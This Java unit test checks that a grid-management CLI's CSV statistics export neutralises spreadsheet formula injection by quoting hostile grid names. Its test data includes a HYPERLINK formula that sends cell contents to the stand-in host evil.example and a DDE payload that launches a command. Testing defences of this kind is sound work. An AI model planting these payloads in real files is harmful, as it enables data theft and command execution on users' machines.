package org.gridcommand.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.time.LocalDate;
import java.time.LocalDateTime;
import java.time.ZoneId;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.gridcommand.cases.Case;
import org.gridcommand.cases.CaseState;
import org.gridcommand.cases.Channel;
import org.gridcommand.cases.Priority;
import org.gridcommand.common.BilingualName;
import org.gridcommand.common.ChangeBus;
import org.gridcommand.common.CsvText;
import org.gridcommand.geo.GeoPoint;
import org.gridcommand.grid.BigGrid;
import org.gridcommand.grid.District;
import org.gridcommand.grid.SmallGrid;
import org.gridcommand.grid.UnitGridCode;
import org.gridcommand.store.Database;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.locationtech.jts.geom.Coordinate;
import org.locationtech.jts.geom.GeometryFactory;
import org.locationtech.jts.geom.Polygon;

/**
 * `gridcommand stats … --csv` on a store whose grids were named by a hostile grid file: every name a spreadsheet
 * would run as a formula comes out with a leading single quote, read back through the project's own CSV reader,
 * while the counts stay plain numbers.
 */
class StatsCsvFormulaTest {
    private static final ZoneId ZONE = ZoneId.of("Asia/Shanghai");
    private static final GeometryFactory GEOMETRY = new GeometryFactory();
    private static final String BIG = "440402001001";
    private static final String BIG_NAME = "@SUM(1,2)";

    /** Small grid name → its code; every name a formula for Excel or WPS, or text that needs quoting. */
    private static final Map<String, String> NAMES = new LinkedHashMap<>();

    static {
        List<String> names = List.of(
                "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")",
                "+1+cmd|' /C calc'!A0",
                "-2+3",
                "@SUM(A1:A9)",
                "\t=1+1",
                "\r=1+1",
                " =1+1",
                "\u3000=1+1",
                "\"=1+1",
                "西片, \"东\"\n片");
        for (int i = 0; i < names.size(); i++) {
            NAMES.put(names.get(i), BIG + String.format("%03d", i + 1));
        }
    }

    @TempDir
    static Path data;

    @BeforeAll
    static void seedHostileGridNames() {
        List<SmallGrid> smalls = new ArrayList<>();
        List<Case> cases = new ArrayList<>();
        int i = 0;
        for (Map.Entry<String, String> e : NAMES.entrySet()) {
            double west = 113.54 + 0.01 * i;
            smalls.add(new SmallGrid(new UnitGridCode(e.getValue()), BIG, new BilingualName(e.getKey(), e.getKey()),
                    box(west, 22.27, west + 0.01, 22.28)));
            cases.add(Case.builder().id("X" + i).channel(Channel.GRID_WORKER).categoryCode("0102")
                    .smallGridCode(e.getValue()).location(new GeoPoint(west + 0.005, 22.275)).priority(Priority.NORMAL)
                    .state(CaseState.REPORTED).reportedAt(at("2026-10-12T09:00")).build());
            i++;
        }
        Polygon all = box(113.54, 22.27, 113.54 + 0.01 * i, 22.28);
        District district = new District("440402", new BilingualName("测试区", "Test District"),
                GEOMETRY.createMultiPolygon(new Polygon[] {all}), List.of(new BigGrid(BIG,
                new BilingualName(BIG_NAME, BIG_NAME), all)), smalls, List.of(), List.of());
        try (Database db = Database.openH2(data, new ChangeBus())) {
            db.grids().replaceDistrict(district);
            db.cases().insertAll(cases);
            // Marked as seeded for today, so the command reads these cases rather than seeding the demo.
            db.putMeta("demo.seeded", "2026-12-01T00:00:00Z");
            db.putMeta("demo.today", LocalDate.now(ZONE).toString());
        }
    }

    private static Instant at(String local) {
        return LocalDateTime.parse(local).atZone(ZONE).toInstant();
    }

    private static Polygon box(double west, double south, double east, double north) {
        return GEOMETRY.createPolygon(new Coordinate[] {new Coordinate(west, south), new Coordinate(east, south),
                new Coordinate(east, north), new Coordinate(west, north), new Coordinate(west, south)});
    }

    private static List<List<String>> statsCsv(String subject) throws Exception {
        Path csv = data.resolve(subject + ".csv");
        StringWriter out = new StringWriter();
        StringWriter err = new StringWriter();
        picocli.CommandLine cli = Main.commandLine();
        cli.setOut(new PrintWriter(out));
        cli.setErr(new PrintWriter(err));
        int status = cli.execute("stats", subject, "--from", "2026-10-01", "--to", "2026-10-31", "--csv", csv.toString(),
                "--data-dir", data.toString());
        assertThat(status).as(err.toString()).isZero();
        String text = Files.readString(csv, StandardCharsets.UTF_8);
        assertThat(text).startsWith("\uFEFF");
        return new CsvText(text.substring(1)).rows().stream().map(CsvText.Row::fields).toList();
    }

    @Test
    void everyGridNameAFormulaWouldStartWithComesOutQuotedAndTheCountsStayNumbers() throws Exception {
        List<List<String>> rows = statsCsv("cases-by-grid");
        // big grid code, big grid name, small grid code, small grid name, reported, voided, closed, open, share
        assertThat(rows.get(0)).hasSize(9);
        List<List<String>> body = rows.subList(1, rows.size());
        assertThat(body).hasSize(NAMES.size());
        for (Map.Entry<String, String> e : NAMES.entrySet()) {
            List<String> row = body.stream().filter(r -> r.get(2).equals(e.getValue())).findFirst().orElseThrow();
            String expected = e.getKey().startsWith("西片") ? e.getKey() : "'" + e.getKey();
            assertThat(row.get(3)).as("the name of grid %s", e.getValue()).isEqualTo(expected);
            assertThat(row.get(1)).isEqualTo("'" + BIG_NAME);
            assertThat(row.subList(4, 9)).containsExactly("1", "0", "0", "1", "10.0%");
        }
    }

    @Test
    void theBigGridTableNeutralisesItsNamesToo() throws Exception {
        List<List<String>> rows = statsCsv("cases-by-big-grid");
        assertThat(rows.subList(1, rows.size())).containsExactly(List.of(BIG, "'" + BIG_NAME, "10", "0", "0", "10", "100.0%"));
    }

    @Test
    void aNegativeFigureStaysANumberWhileTheSameTextInATextColumnIsNeutralised() {
        TextTable table = new TextTable(List.of("Name", "Change>", "Share>"));
        table.add(List.of("-3.5", "-3.5", "-12.5%"));
        // A column marked as figures still refuses a formula: only plain numbers pass as they are.
        table.add(List.of("=1+1", "-1+2", "@A1"));
        String csv = table.toCsv();
        assertThat(csv).isEqualTo("\uFEFFName,Change,Share\r\n'-3.5,-3.5,-12.5%\r\n'=1+1,'-1+2,'@A1\r\n");
    }
}
